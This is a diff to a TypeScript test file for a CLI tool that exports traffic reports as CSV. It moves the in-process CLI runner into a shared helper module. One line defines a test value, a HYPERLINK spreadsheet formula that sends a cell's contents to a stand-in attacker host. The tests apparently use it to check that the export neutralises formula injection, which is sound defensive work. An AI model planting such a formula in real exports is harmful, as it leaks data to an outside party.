@@ -9,10 +9,8 @@ import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { describe, expect, it, vi } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { TRAFFIC_LIST_LIMIT } from '../../src/analysis/traffic.js';
-import { runProgram } from '../../src/commands/program.js';
-import { ConfigurationError } from '../../src/errors.js';
 import { renderCsv, RULE_CSV_COLUMNS } from '../../src/report/csv.js';
 import {
   ANOMALY_CSV_COLUMNS,
@@ -28,6 +26,7 @@ import {
 import type { Report } from '../../src/report/types.js';
 import { repo } from '../helpers/action.js';
 import { ruleId, v2, writeScenario } from '../helpers/scenario.js';
+import { cliInProcess, type CliRun } from '../helpers/cli-in-process.js';
 
 /** Every file export-traffic writes, with its header row. */
 const HEADERS: Record<string, readonly string[]> = {
@@ -45,34 +44,7 @@ const HEADERS: Record<string, readonly string[]> = {
 
 const INJECTION = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
 
-interface CliRun {
-  status: number;
-  stdout: string;
-  stderr: string;
-}
-
-/** Runs the CLI in-process, as src/cli.ts does: a ConfigurationError is exit 2 and one line. */
-async function cli(...args: string[]): Promise<CliRun> {
-  let stdout = '';
-  let stderr = '';
-  const out = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
-    stdout += String(chunk);
-    return true;
-  });
-  const err = vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => {
-    stderr += String(chunk);
-    return true;
-  });
-  try {
-    return { status: await runProgram(args), stdout, stderr };
-  } catch (e) {
-    if (!(e instanceof ConfigurationError)) throw e;
-    return { status: 2, stdout, stderr: `${stderr}sg-flow-audit: ${e.message}\n` };
-  } finally {
-    out.mockRestore();
-    err.mockRestore();
-  }
-}
+const cli = cliInProcess;
 
 function scratch(): string {
   return mkdtempSync(join(tmpdir(), 'sgfa-export-traffic-'));
